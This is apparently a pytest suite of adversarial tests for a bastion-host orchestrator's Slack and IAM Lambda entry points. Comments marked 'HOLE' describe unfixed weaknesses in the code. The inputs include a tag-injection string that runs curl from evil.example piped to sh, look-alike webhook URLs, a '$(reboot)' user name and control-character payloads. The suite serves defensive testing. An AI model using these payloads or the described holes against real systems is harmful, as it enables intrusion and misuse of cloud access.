"""Adversarial review (branch attack-review): every door and the policy, tried as an attacker.

Each test encodes the SECURE behaviour. Tests marked ``# HOLE:`` fail against the current code:
the attack gets through; the comment says why. The others pass and cover attacks the existing
suite (test_trust_boundary.py, test_slack_door.py) does not.
"""

from __future__ import annotations

import base64
import json
import re
import shlex
from datetime import timedelta
from typing import Any
from urllib.parse import urlencode

import pytest

import auto_terminate
import handler
from tests.support.doors import deliver, reset_with, sealed, signed, via_slack
from tests.support.iam_requests import (
    ACCOUNT,
    ADMIN_ARN,
    ADMIN_ID,
    ADMIN_ROLE,
    ALICE_ARN,
    ALICE_ID,
    iam_event,
)
from tests.support.slack_requests import function_url_event, slash_command

pytestmark = pytest.mark.integration

EC2_TAG_VALUE_MAX = 256
DNS_NAME = re.compile(
    r"^[A-Za-z0-9]([A-Za-z0-9-]*[A-Za-z0-9])?(\.[A-Za-z0-9]([A-Za-z0-9-]*[A-Za-z0-9])?)*\.?$"
)


# ------------------------------------------------------------------ helpers
def direct(ctx: Any, payload: Any) -> dict[str, Any]:
    return handler.lambda_handler(payload, ctx)


def via_iam(ctx: Any, body: Any, **identity: Any) -> tuple[int, dict[str, Any]]:
    response = handler.lambda_handler(iam_event(body, **identity), ctx)
    return response["statusCode"], json.loads(response["body"])


# ================================================================== HTTP doors never raise
def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def _deep_iam(clock: Any) -> dict[str, Any]:
    return iam_event(_nested(100_000))


def _deep_slack_payload(clock: Any) -> dict[str, Any]:
    return signed(clock, urlencode({"payload": _nested(100_000)}))


@pytest.mark.parametrize(
    "make", [_deep_iam, _deep_slack_payload], ids=["iam-body", "slack-signed-payload"]
)
def test_deeply_nested_json_is_a_400_not_a_500(
    aws, slack, clock, lambda_context, lambda_async, make
):
    # HOLE: deep JSON nesting raises RecursionError, not caught by `except ValueError`: a 500.
    # The request falls through to the INTERNAL_ERROR handler, is logged as an exception and
    # counted as InternalErrors: any IAM-door caller can trip the error alarm at will.
    # Given a body that is JSON-shaped but nested 100,000 deep
    event = make(clock)
    # When it reaches a Function URL door
    response = handler.lambda_handler(event, lambda_context)
    # Then it is refused as malformed (400), not an internal error, and nothing happens
    assert response["statusCode"] == 400, response
    assert lambda_async == [] and aws.running() == []


def test_huge_bodies_are_refused_cheaply_and_change_nothing(
    aws, slack, clock, lambda_context, lambda_async
):
    # Given a ~5 MB unsigned form and a ~5 MB IAM body (Function URLs accept up to 6 MB)
    big_form = "command=%2Finfra&text=bastion+create&user_id=U1&junk=" + "A" * 5_000_000
    unsigned = function_url_event(big_form, secret=None, timestamp=int(clock().timestamp()))
    big_iam = iam_event({"action": "create", "reason": "x" * 5_000_000})
    # When they arrive
    first = handler.lambda_handler(unsigned, lambda_context)
    second = handler.lambda_handler(big_iam, lambda_context)
    # Then the unsigned one is 401, the oversized reason a 400 that does not echo it back
    assert first["statusCode"] == 401
    assert second["statusCode"] == 400 and len(second["body"]) < 2_000
    assert lambda_async == [] and aws.running() == []


@pytest.mark.parametrize(
    "raw",
    [
        '{"action": "create", "hours": NaN}',
        '{"action": "create", "hours": Infinity}',
        '{"action": "create", "hours": -Infinity}',
        '{"action": "create", "hours": 1e400}',
        '{"action": "create", "hours": -0.0}',
        '{"action": "create", "hours": true}',
        '{"action": "create", "hours": "2"}',
        '{"action": "create", "rds_port": 5432.0}',
        '{"action": "create", "rds_port": 1' + "0" * 5000 + "}",
        '{"action": ["create"]}',
        '{"action": "CREATE"}',
        '{"action": "create\\u0000"}',
        '{"action": "status", "instance_id": "I-0123456789ABCDEF0"}',
        '{"action": "status", "instance_id": "i-0123456789abcdef0\\n"}',
        '{"action": "create", "rds_endpoint": "db.example.com;id"}',
    ],
)
def test_iam_bodies_with_odd_json_values_are_400(aws, clock, lambda_context, raw):
    # When a signed IAM caller sends JSON that Python parses but the contract does not allow
    status, body = via_iam(lambda_context, raw)
    # Then it is a 400 VALIDATION_ERROR and nothing is launched
    assert (status, body.get("error")) == (400, "VALIDATION_ERROR"), body
    assert aws.running() == []


@pytest.mark.parametrize(
    "iam",
    [
        {"userArn": ALICE_ARN, "userId": "*"},  # an EC2 filter wildcard as the caller's id
        {"userArn": ALICE_ARN, "userId": "AROA?:alice"},
        {"userArn": ALICE_ARN, "userId": ""},
        {"userArn": "alice", "userId": ALICE_ID},
        {"userArn": ALICE_ARN + "\n", "userId": ALICE_ID},
        {"userArn": f"arn:aws:s3:::{ACCOUNT}", "userId": ALICE_ID},
        {"userArn": None, "userId": ALICE_ID},
        {"userArn": ALICE_ARN, "userId": 42},
        {},
    ],
    ids=lambda v: repr(v)[:40],
)
def test_an_unreadable_iam_identity_is_401_and_never_a_wildcard(aws, clock, lambda_context, iam):
    # Given a bastion of someone
    direct(lambda_context, {"action": "create", "user_id": "U12345", "username": "john.doe"})
    event = iam_event({"action": "list"})
    event["requestContext"]["authorizer"]["iam"] = iam
    # When the authorizer context is malformed (only a direct invoker could forge one)
    response = handler.lambda_handler(event, lambda_context)
    # Then it is 401 and lists nothing
    assert response["statusCode"] == 401
    assert "U12345" not in response["body"]


@pytest.mark.parametrize(
    ("arn", "user_id", "username"),
    [
        (f"arn:aws:iam::{ACCOUNT}:root", ACCOUNT, "root"),
        (f"arn:aws:sts::{ACCOUNT}:federated-user/bob", f"{ACCOUNT}:bob", "bob"),
        (f"arn:aws:iam::{ACCOUNT}:user/ops/dave", "AIDAEXAMPLEUSER00001", "dave"),
        (
            "arn:aws:sts::999999999999:assumed-role/Dev/erin@example.org",
            "AROAFOREIGNACCOUNT01:erin@example.org",
            "erin",
        ),
    ],
    ids=["root", "federated-user", "iam-user-with-path", "cross-account-session"],
)
def test_odd_but_genuine_iam_identities_own_only_their_bastion(
    aws, clock, lambda_context, arn, user_id, username
):
    # Given Alice's bastion
    _, alices = via_iam(lambda_context, {"action": "create"})
    # When a root, federated, path-ful or foreign-account caller creates and looks around
    status, own = via_iam(lambda_context, {"action": "create"}, user_arn=arn, user_id=user_id)
    # Then they get their own bastion, tagged with what AWS verified
    assert status == 200 and own["instance_id"] != alices["instance_id"]
    tags = aws.tags(own["instance_id"])
    assert (tags["RequestedByUserId"], tags["RequestedByArn"], tags["RequestedBy"]) == (
        user_id,
        arn,
        username,
    )
    # And they see and touch only their own
    _, listed = via_iam(lambda_context, {"action": "list"}, user_arn=arn, user_id=user_id)
    assert [b["instance_id"] for b in listed["bastions"]] == [own["instance_id"]]
    for verb in ("status", "extend", "destroy"):
        got, body = via_iam(
            lambda_context,
            {"action": verb, "instance_id": alices["instance_id"]},
            user_arn=arn,
            user_id=user_id,
        )
        assert (got, body["error"]) == (403, "FORBIDDEN"), verb
    assert aws.state(alices["instance_id"]) == "running"


# ================================================================== admin ARN matching
@pytest.mark.parametrize(
    ("arn", "user_id"),
    [
        # the admin role's name and path, but in another account
        (
            "arn:aws:sts::999999999999:assumed-role/PlatformAdmin/carol",
            "AROAFOREIGN000000001:carol",
        ),
        # the admin role's name in another partition (same account number)
        (
            f"arn:aws-us-gov:sts::{ACCOUNT}:assumed-role/PlatformAdmin/carol",
            "AROAGOVCLOUD00000001:c",
        ),
        (f"arn:aws-cn:sts::{ACCOUNT}:assumed-role/PlatformAdmin/carol", "AROACHINA00000000001:c"),
        # an IAM user, a federated user and a session named like the role
        (f"arn:aws:iam::{ACCOUNT}:user/PlatformAdmin", "AIDAEXAMPLEUSER00002"),
        (f"arn:aws:iam::{ACCOUNT}:user/platform/PlatformAdmin", "AIDAEXAMPLEUSER00003"),
        (f"arn:aws:sts::{ACCOUNT}:federated-user/PlatformAdmin", f"{ACCOUNT}:PlatformAdmin"),
        (f"arn:aws:sts::{ACCOUNT}:assumed-role/Developer/PlatformAdmin", "AROADEV:PlatformAdmin"),
        # roles whose names merely contain the admin role's name, or differ in case
        (f"arn:aws:sts::{ACCOUNT}:assumed-role/PlatformAdminX/carol", "AROAX:carol"),
        (f"arn:aws:sts::{ACCOUNT}:assumed-role/XPlatformAdmin/carol", "AROAY:carol"),
        (f"arn:aws:sts::{ACCOUNT}:assumed-role/platformadmin/carol", "AROAZ:carol"),
        # the role ARN itself, without its path (not what AWS sends, but never a match by prefix)
        (f"arn:aws:iam::{ACCOUNT}:role/PlatformAdmin", "AROAROLE:carol"),
    ],
    ids=[
        "other-account",
        "govcloud",
        "china",
        "iam-user-same-name",
        "iam-user-same-path-and-name",
        "federated-user-same-name",
        "session-named-like-role",
        "name-prefix",
        "name-suffix",
        "other-case",
        "role-arn-without-path",
    ],
)
def test_only_the_listed_admin_role_is_admin(aws, clock, lambda_context, monkeypatch, arn, user_id):
    # Given the admin role (with its path) in ADMIN_PRINCIPAL_ARNS and Alice's bastion
    reset_with(monkeypatch, ADMIN_PRINCIPAL_ARNS=ADMIN_ROLE)
    _, alices = via_iam(lambda_context, {"action": "create"})
    # When a look-alike principal destroys it, names Alice, or lists everyone
    destroy = via_iam(
        lambda_context,
        {"action": "destroy", "instance_id": alices["instance_id"]},
        user_arn=arn,
        user_id=user_id,
    )
    speak = via_iam(
        lambda_context, {"action": "list", "user_id": "U12345"}, user_arn=arn, user_id=user_id
    )
    _, listed = via_iam(lambda_context, {"action": "list"}, user_arn=arn, user_id=user_id)
    # Then it is not an admin: 403, 403, and a list of its own (none)
    assert (destroy[0], destroy[1]["error"]) == (403, "FORBIDDEN")
    assert (speak[0], speak[1]["error"]) == (403, "FORBIDDEN")
    assert listed["bastions"] == []
    assert aws.state(alices["instance_id"]) == "running"
    # And the genuine admin session still is one
    _, everyone = via_iam(lambda_context, {"action": "list"}, user_arn=ADMIN_ARN, user_id=ADMIN_ID)
    assert [b["user_id"] for b in everyone["bastions"]] == [ALICE_ID]


def test_a_slack_admin_id_is_no_admin_on_the_iam_door(aws, clock, lambda_context, monkeypatch):
    # Given UADMIN in ADMIN_USER_IDS (a Slack admin) and someone's bastion
    victim = direct(lambda_context, {"action": "create", "user_id": "UVICTIM", "username": "v"})
    # When an IAM caller whose userId happens to be UADMIN acts (the door's pattern allows it)
    status, body = via_iam(
        lambda_context,
        {"action": "destroy", "instance_id": victim["instance_id"]},
        user_arn=f"arn:aws:iam::{ACCOUNT}:user/UADMIN",
        user_id="UADMIN",
    )
    # Then ADMIN_USER_IDS does not apply on the IAM door
    assert (status, body["error"]) == (403, "FORBIDDEN")
    assert aws.state(victim["instance_id"]) == "running"


def test_an_iam_caller_cannot_choose_the_username_it_is_recorded_under(aws, clock, lambda_context):
    # HOLE: a body `username` overrides the AWS-verified one (`request.username or actor...`).
    # Alice tags her bastion RequestedBy=carol, Name=...-bastion-carol; CONTRACT (IAM door) says
    # RequestedBy is taken from the session or user name.
    # When Alice creates, claiming to be carol in the body
    status, body = via_iam(lambda_context, {"action": "create", "username": "carol"})
    # Then either it is refused, or the bastion is recorded under the name AWS verified
    if status == 200:
        tags = aws.tags(body["instance_id"])
        assert tags["RequestedBy"] == "alice", tags
        assert tags["Name"].endswith("-bastion-alice"), tags
    else:
        assert aws.running() == []


def test_every_tag_the_iam_door_writes_fits_ec2s_limit(aws, clock, lambda_context):
    # HOLE: userArn (<= 2048 chars) goes unclamped into RequestedByArn; EC2 caps tags at 256.
    # An IAM user with a long path (paths may be 512 characters) can never create and gets a 500
    # CONFIGURATION_ERROR blaming the deployment (moto does not enforce the limit; EC2 does).
    path = "/".join(["team"] * 60)
    arn = f"arn:aws:iam::{ACCOUNT}:user/{path}/dave"
    status, body = via_iam(
        lambda_context, {"action": "create"}, user_arn=arn, user_id="AIDAEXAMPLEUSER00009"
    )
    assert status == 200
    too_long = {k: len(v) for k, v in aws.tags(body["instance_id"]).items() if len(v) > 256}
    assert too_long == {}, too_long


# ================================================================== Slack door
@pytest.mark.parametrize(
    "text",
    [
        "bastion destroy prod.",  # a trailing full stop
        "bastion destroy 'prod'",  # quoted
        "bastion destroy pr\u043ed",  # a homoglyph: Cyrillic o
        "bastion destroy production-eu-west-1-blue-green-cluster",  # longer than 31
        "bastion extend prod!",
    ],
)
def test_a_destructive_command_naming_another_environment_is_never_run_here(
    aws, slack, clock, lambda_context, lambda_async, text
):
    # HOLE: an env word not matching _ENV_WORD is silently dropped and the verb runs here.
    # commands.parse ignores "prod.", "'prod'", a homoglyph or a long name after
    # status/extend/destroy and acts on THIS deployment's bastion.
    # Given John's bastion in dev
    via_slack(lambda_context, clock, slash_command("bastion create"))
    [created] = deliver(lambda_context, lambda_async)
    iid = created["instance_id"]
    expires = aws.tags(iid)["ExpiresAt"]
    # When he types a destroy/extend meant for another environment, slightly mistyped
    status, body = via_slack(lambda_context, clock, slash_command(text))
    deliver(lambda_context, lambda_async)
    # Then nothing is done to the dev bastion
    assert status == 200
    assert aws.state(iid) == "running" and aws.tags(iid)["ExpiresAt"] == expires, body["text"]


def test_repeated_form_keys_never_make_a_user_an_admin(
    aws, slack, clock, lambda_context, lambda_async
):
    # Given bastions of two users and UADMIN an admin
    direct(lambda_context, {"action": "create", "user_id": "U12345", "username": "john.doe"})
    direct(lambda_context, {"action": "create", "user_id": "UOTHER", "username": "other"})
    form = slash_command("bastion list") + "&user_id=UADMIN&text=bastion+destroy"
    # When a (signed) form carries user_id and text twice
    status, body = via_slack(lambda_context, clock, form)
    # Then one value of each is taken consistently: John's scoped list, nothing destroyed
    assert status == 200 and "1 active bastion" in body["text"]
    assert "UOTHER" not in json.dumps(body)
    assert len(aws.running()) == 2 and lambda_async == []


@pytest.mark.parametrize(
    "user_id",
    ["*", "U*", "U?", "UADMIN\n", "UADMIN ", " UADMIN", "UADMİN", "", "U" * 65],
    ids=[
        "star",
        "prefix-star",
        "question",
        "trailing-newline",
        "trailing-space",
        "leading-space",
        "dotted-I",
        "empty",
        "too-long",
    ],
)
def test_a_signed_form_with_an_odd_user_id_is_nobody(
    aws, slack, clock, lambda_context, lambda_async, user_id
):
    # Given someone's bastion and UADMIN an admin
    victim = direct(lambda_context, {"action": "create", "user_id": "UVICTIM", "username": "v"})
    # When a signed form names an odd user id (a tag-filter wildcard, whitespace, a look-alike)
    for text in ("bastion list", "bastion destroy", "bastion status"):
        status, body = via_slack(lambda_context, clock, slash_command(text, user_id=user_id))
        deliver(lambda_context, lambda_async)
        # Then it is refused or scoped to nobody: never UVICTIM's bastion, never admin
        assert status in (200, 400)
        assert victim["instance_id"] not in json.dumps(body), (text, body)
    assert aws.state(victim["instance_id"]) == "running"


@pytest.mark.parametrize(
    "url",
    [
        "https://hooks.slack.com.evil.example/commands/T0/1/x",
        "https://hooks.slack.com@evil.example/commands/T0/1/x",
        "https://hooks.slack.com:8443/commands/T0/1/x",
        "https://hooks.slack.com/commands/T0/1/x?u=https://evil.example",
        "https://hooks.slack.com/commands/T0/1/x#@evil.example",
        "https://hooks.slack.com\\@evil.example/x",
        "http://hooks.slack.com/commands/T0/1/x",
        "https://HOOKS.slack.com/commands/T0/1/x",
        "https://hooks.slack.com/commands/T0/1/x\nhttps://evil.example",
        "https://evil.example/https://hooks.slack.com/commands",
    ],
)
def test_look_alike_response_urls_are_never_posted_to(
    aws, slack, clock, lambda_context, lambda_async, monkeypatch, url
):
    from bastion_orchestrator.adapters.slack import notifier

    posted: list[str] = []
    post = notifier._post_webhook

    def recorded(target: str, what: str, **message: Any) -> None:
        posted.append(target)
        if target == url:  # never sent anywhere: the test records, and fails below
            return
        post(target, what, **message)

    monkeypatch.setattr(notifier, "_post_webhook", recorded)
    # When a create that launches, and one the policy refuses, carry a response_url that
    # only looks like Slack's
    via_slack(lambda_context, clock, slash_command("bastion create", response_url=url))
    [created] = deliver(lambda_context, lambda_async)
    reset_with(monkeypatch, ALLOWED_USER_IDS="USOMEONEELSE")
    via_slack(lambda_context, clock, slash_command("bastion create 1h", response_url=url))
    [refused] = deliver(lambda_context, lambda_async)
    # Then neither the result nor the refusal is posted there (results go by direct message)
    assert created["success"] is True and refused["error"] == "FORBIDDEN"
    assert url not in posted
    assert slack.to("U12345")


def test_slack_names_never_reach_tags_or_messages_as_markup(
    aws, slack, clock, lambda_context, lambda_async
):
    # Given a Slack user whose user_name is mrkdwn and shell text
    name = "<!channel> `$(reboot)` *x*"
    via_slack(lambda_context, clock, slash_command("bastion create", user_name=name))
    [created] = deliver(lambda_context, lambda_async)
    # Then the tags carry a sanitised username only
    tags = aws.tags(created["instance_id"])
    assert re.fullmatch(r"[A-Za-z0-9._-]+", tags["RequestedBy"]), tags["RequestedBy"]
    assert "<!channel>" not in tags["Name"]
    # And no message the function posted contains the markup
    assert all("<!channel>" not in m.all_text() for m in slack.messages)


# ================================================================== sealed continuations
def _form(envelope: dict[str, Any], field: str, value: str) -> None:
    """Swap a field of a sealed continuation's queued request (the seal left as it was)."""
    assert field in envelope["job"]["slack_form"]
    envelope["job"]["slack_form"][field] = value


def test_a_genuine_continuation_survives_json_re_encoding(aws, slack, clock, lambda_context):
    # Given a genuine job with unicode text and a fractional duration (10 minutes)
    envelope = sealed(
        clock, body=slash_command("bastion create 10m INC-42 café 🚀 “quotes” \\ back\\slash")
    )
    # When Lambda's transport re-encodes it (other key order, raw UTF-8, indentation)
    reencoded = json.loads(
        json.dumps(
            {"continuation": dict(reversed(list(envelope["continuation"].items())))},
            ensure_ascii=False,
            indent=3,
        )
    )
    result = direct(lambda_context, reencoded)
    # Then it is still recognised as genuine and launches
    assert result["success"] is True, result
    assert aws.tags(result["instance_id"])["Reason"].startswith("INC-42 café 🚀")


@pytest.mark.parametrize(
    "tamper",
    [
        lambda env: env.update(issued_at=float(env["issued_at"])),
        lambda env: env.update(issued_at=str(env["issued_at"])),
        lambda env: env.update(issued_at=True),
        lambda env: env.update(issued_at=env["issued_at"] + 10**30),
        lambda env: env.update(signature=env["signature"].upper()),
        # the version prefix in upper case (v2= -> V2=): whatever the current version is
        lambda env: env.update(signature=env["signature"][0].upper() + env["signature"][1:]),
        lambda env: env.update(signature=env["signature"] + " "),
        lambda env: env.update(signature=env["signature"][3:]),
        lambda env: env.update(signature=env["signature"].encode().hex()),
        lambda env: env.update(signature=None),
        lambda env: _form(env, "user_id", "\uff35\uff11\uff12\uff13\uff14\uff15"),  # fullwidth
        lambda env: _form(env, "text", "bastion create 3h"),
        lambda env: env["job"].update(extra=None),
        lambda env: _form(env, "user_id", "U12345\u200b"),
        lambda env: _form(env, "user_id", "u12345"),
    ],
    ids=[
        "issued_at-float",
        "issued_at-str",
        "issued_at-bool",
        "issued_at-future",
        "sig-upper",
        "sig-version-case",
        "sig-space",
        "sig-no-version",
        "sig-hex-of-sig",
        "sig-null",
        "user-fullwidth",
        "hours-added",
        "extra-null-key",
        "zero-width-space",
        "user-case",
    ],
)
def test_canonicalisation_tricks_on_a_genuine_continuation_are_refused(
    aws, slack, clock, lambda_context, tamper
):
    # Given a genuine sealed create
    envelope = sealed(clock)
    # When one value is swapped for one that compares or prints alike
    tamper(envelope["continuation"])
    # Then it is refused and nothing launches
    refused = direct(lambda_context, envelope)
    assert refused.get("error") == "FORBIDDEN", refused
    assert aws.running() == []


def test_a_genuine_continuation_obeys_the_policy_of_the_moment_it_runs(
    aws, slack, clock, lambda_context, monkeypatch
):
    # Given a genuine job for U12345, sealed while the allow-list named him
    envelope = sealed(clock)
    # When the allow-list drops him before the continuation runs
    reset_with(monkeypatch, ALLOWED_USER_IDS="USOMEONEELSE")
    refused = direct(lambda_context, envelope)
    # Then the seal vouches for who asked, not for the permission: FORBIDDEN, nothing launched
    assert refused["error"] == "FORBIDDEN"
    assert aws.running() == []


def test_a_continuation_is_not_accepted_beside_a_function_url_shape(
    aws, slack, clock, lambda_context
):
    # Given a genuine continuation smuggled inside a Function URL-shaped event (public URL)
    event = signed(clock, "a=b")
    event["continuation"] = sealed(clock)["continuation"]
    event["headers"]["x-slack-signature"] = "v0=" + "0" * 64
    # When it arrives
    response = handler.lambda_handler(event, lambda_context)
    # Then the HTTP door answers it (401: unsigned) and the job is not run
    assert response["statusCode"] == 401
    assert aws.running() == []


# ================================================================== output injection
def test_a_tampered_rds_endpoint_tag_never_becomes_a_shell_command(aws, clock, lambda_context):
    # Found by the second review: the RdsEndpoint TAG went unescaped into the single-quoted
    # copy-paste command. tag_protection_policy_json now keeps every key of a bastion to the
    # module's roles, but where it is not attached anyone with ec2:CreateTags could still
    # rewrite it: the command must stay safe whatever the tag says.
    created = direct(lambda_context, {"action": "create", "user_id": "U1", "username": "u"})
    iid = created["instance_id"]
    # Given someone rewrites the bastion's RdsEndpoint tag
    evil = "db.example.com'; curl -s https://evil.example/x | sh; echo '"
    aws.ec2.create_tags(Resources=[iid], Tags=[{"Key": "RdsEndpoint", "Value": evil}])
    # When the owner asks for status
    status = direct(lambda_context, {"action": "status", "instance_id": iid, "user_id": "U1"})
    command = status["connection"]["port_forward"]
    # Then the command is exactly one `aws ssm start-session ... --parameters <json>` whose host
    # is a DNS name
    tokens = shlex.split(command)
    assert tokens[:3] == ["aws", "ssm", "start-session"] and tokens[-2] == "--parameters", tokens
    host = json.loads(tokens[-1])["host"][0]
    assert DNS_NAME.match(host), host
    assert "curl" not in status["connection_instructions"]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("reason", "ok\u2028forged audit line"),
        ("reason", "ok\u202etxt.exe"),
        ("reason", "\x1b[2J\x1b[31mred"),
        ("reason", "tab\tseparated"),
        ("display_name", "John\u0085Doe"),
        ("display_name", "John\u200fDoe"),
        ("display_name", "x" * 129),
        ("username", "john doe"),
        ("username", "jöhn"),
        ("user_id", "U1\u0000"),
        ("rds_endpoint", "db.example.com\n"),
        ("rds_endpoint", "db.example.com:5432"),
        ("rds_endpoint", "-db.example.com"),
    ],
)
def test_hostile_text_fields_are_refused_on_the_direct_and_iam_doors(
    aws, clock, lambda_context, field, value
):
    # When a direct or IAM create carries control, bidi, separator or shell characters
    payload = {"action": "create", "user_id": "U1", "username": "u", field: value}
    refused = direct(lambda_context, payload)
    iam_body = {"action": "create", field: value}
    status, iam_refused = via_iam(lambda_context, iam_body)
    # Then both are VALIDATION_ERROR and nothing launches
    assert refused["error"] == "VALIDATION_ERROR"
    if field != "user_id":
        assert (status, iam_refused["error"]) == (400, "VALIDATION_ERROR")
    assert aws.running() == []


# ================================================================== oracles and scope
def test_a_forbidden_answer_tells_nothing_about_the_bastion(aws, slack, clock, lambda_context):
    # Given the victim's bastion with a reason and an RDS endpoint
    victim = direct(
        lambda_context,
        {
            "action": "create",
            "user_id": "UVICTIM",
            "username": "victim.name",
            "display_name": "Victim Person",
            "reason": "INC-SECRET",
        },
    )
    iid = victim["instance_id"]
    # When another user asks about it on each door
    answers = [
        direct(lambda_context, {"action": "status", "instance_id": iid, "user_id": "UMALLORY"}),
        via_iam(lambda_context, {"action": "status", "instance_id": iid})[1],
    ]
    # Then the answers are FORBIDDEN and carry none of its details
    for answer in answers:
        assert answer["error"] == "FORBIDDEN"
        text = json.dumps(answer)
        leaks = ["UVICTIM", "victim.name", "Victim Person", "INC-SECRET", victim["expires_at"]]
        leaks += [victim["private_ip"]] if victim["private_ip"] else []
        for leak in [*leaks, "start-session"]:
            assert leak not in text, leak


def test_another_deployments_bastion_is_not_found_on_every_verb_and_door(
    aws, slack, clock, lambda_context, lambda_async, monkeypatch
):
    # Given a bastion of the same project's prod deployment, owned by the same Slack user
    tags = [
        {"Key": "ManagedBy", "Value": "bastion-orchestrator"},
        {"Key": "Project", "Value": "docustack"},
        {"Key": "Environment", "Value": "prod"},
        {"Key": "RequestedByUserId", "Value": "U12345"},
        {"Key": "CreatedAt", "Value": clock().isoformat()},
        {"Key": "ExpiresAt", "Value": (clock() + timedelta(hours=1)).isoformat()},
    ]
    prod = aws.ec2.run_instances(
        ImageId="ami-12345678",
        MinCount=1,
        MaxCount=1,
        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
    )["Instances"][0]["InstanceId"]
    reset_with(monkeypatch, ADMIN_PRINCIPAL_ARNS=ADMIN_ROLE)
    # When its owner, a Slack admin, an IAM admin and an operator try every verb on it
    from tests.support.slack_requests import button

    for verb in ("status", "extend", "destroy"):
        assert direct(lambda_context, {"action": verb, "instance_id": prod})["error"] == "NOT_FOUND"
        got = via_iam(
            lambda_context,
            {"action": verb, "instance_id": prod},
            user_arn=ADMIN_ARN,
            user_id=ADMIN_ID,
        )
        assert got[0] == 404
    for action_id in ("bastion_extend", "bastion_destroy"):
        for who in ("U12345", "UADMIN"):
            via_slack(lambda_context, clock, button(action_id, prod, user_id=who))
            [result] = deliver(lambda_context, lambda_async)
            assert result["error"] == "NOT_FOUND"
    # And the owner's own dev-side commands do not find it either
    _, status = via_slack(lambda_context, clock, slash_command("bastion status"))
    assert prod not in json.dumps(status)
    # Then it is untouched
    assert aws.state(prod) == "running"
    assert aws.tags(prod)["ExpiresAt"] == tags[-1]["Value"]


def test_the_sweep_leaves_a_look_alike_deployments_schedules_alone(
    aws, clock, lambda_context, monkeypatch
):
    # HOLE: "<project>-<env>-" is ambiguous: our sweep deletes a look-alike's schedules.
    # "docustack"/"dev-eu" and "docustack-dev"/"eu" share "docustack-dev-eu-"; aws/scheduler.py
    # promises isolation "even in a shared group".
    # Given this deployment is docustack/dev-eu
    reset_with(monkeypatch, ENVIRONMENT="dev-eu")
    # And deployment docustack-dev/eu has a live bastion with its termination schedule
    tags = [
        {"Key": "ManagedBy", "Value": "bastion-orchestrator"},
        {"Key": "Project", "Value": "docustack-dev"},
        {"Key": "Environment", "Value": "eu"},
        {"Key": "ExpiresAt", "Value": (clock() + timedelta(hours=10)).isoformat()},
    ]
    theirs = aws.ec2.run_instances(
        ImageId="ami-12345678",
        MinCount=1,
        MaxCount=1,
        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
    )["Instances"][0]["InstanceId"]
    name = f"docustack-dev-eu-{theirs}-termination"
    aws.scheduler.create_schedule(
        Name=name,
        GroupName=aws.group,
        ScheduleExpression="at(2030-01-01T00:00:00)",
        FlexibleTimeWindow={"Mode": "OFF"},
        Target={
            "Arn": f"arn:aws:lambda:us-east-1:{ACCOUNT}:function:theirs",
            "RoleArn": f"arn:aws:iam::{ACCOUNT}:role/theirs",
        },
    )
    # When our sweep runs (past the orphan grace period)
    clock.advance(minutes=30)
    result = auto_terminate.lambda_handler({"action": "sweep"}, lambda_context)
    # Then their schedule is still there
    assert name in aws.schedules(), result
    assert aws.state(theirs) == "running"


# ================================================================== fail-open settings
def test_approval_required_is_never_silently_ignored(aws, clock, lambda_context, monkeypatch):
    # HOLE: APPROVAL_REQUIRED=true is ignored (nothing reads it): fail-open, instant launch.
    # CONTRACT "Approvals": a create launches nothing until an approver approves; Settings has
    # extra="ignore", so the variable is silently dropped.
    reset_with(
        monkeypatch,
        APPROVAL_REQUIRED="true",
        APPROVER_USER_IDS="UAPPROVER",
        APPROVAL_CHANNEL="C0APPROVALS",
    )
    # When a non-approver creates on the direct and IAM doors
    answer = direct(lambda_context, {"action": "create", "user_id": "U12345", "username": "j"})
    _, iam_answer = via_iam(lambda_context, {"action": "create", "reason": "INC-1"})
    # Then nothing is launched: the requests wait (or, unimplemented, are refused)
    assert aws.running() == [], (answer, iam_answer)
    for got in (answer, iam_answer):
        assert got.get("pending_approval") is True or got.get("success") is False


def test_every_bastion_carries_its_own_hard_cap(aws, clock, lambda_context):
    # HOLE: RunInstances sends no UserData: no on-instance power-off at the hard cap.
    # CONTRACT "Bastion instance" requires it "even if every function and schedule fails"; a
    # bastion whose schedules and sweep fail lives on.
    created = direct(lambda_context, {"action": "create", "user_id": "U1", "username": "u"})
    attribute = aws.ec2.describe_instance_attribute(
        InstanceId=created["instance_id"], Attribute="userData"
    )
    encoded = attribute.get("UserData", {}).get("Value", "")
    script = base64.b64decode(encoded).decode() if encoded else ""
    assert any(word in script for word in ("shutdown", "poweroff", "halt")), script
